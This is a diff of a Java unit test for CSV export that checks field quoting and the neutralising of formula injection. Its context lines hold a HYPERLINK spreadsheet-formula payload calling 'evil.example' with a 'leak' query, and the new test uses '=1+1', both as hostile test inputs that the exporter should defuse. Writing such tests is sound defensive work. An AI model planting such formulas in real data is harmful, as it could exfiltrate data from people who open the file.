@@ -103,6 +103,15 @@ class CsvInjectionTest {
     }
 
     @Test
+    void a_record_added_to_a_table_is_the_record_alone_each_field_quoted_as_it_needs() {
+        List<String> fields = List.of("S-1", "a, b", "say \"so\"", "=1+1", "-3", "line\nbreak", "");
+        StringBuilder table = new StringBuilder("header\r\n");
+        assertThat(Csv.record(table, fields.toArray(String[]::new))).isSameAs(table);
+        assertThat(table).hasToString("header\r\n" + Csv.record(fields));
+        assertThat(Csv.record(fields)).isEqualTo("S-1,\"a, b\",\"say \"\"so\"\"\",\"'=1+1\",-3,\"line\nbreak\",\r\n");
+    }
+
+    @Test
     void a_hostile_case_id_is_neutralised_in_the_caseload_csv() throws IOException {
         String csv = CaseloadFormat.CSV.render(List.of(schedule(HYPERLINK), schedule("=1+1")));
         assertThat(csv).contains("\n\"'=HYPERLINK(\"\"http://evil.example/?leak\"\",\"\"Open\"\")\",")
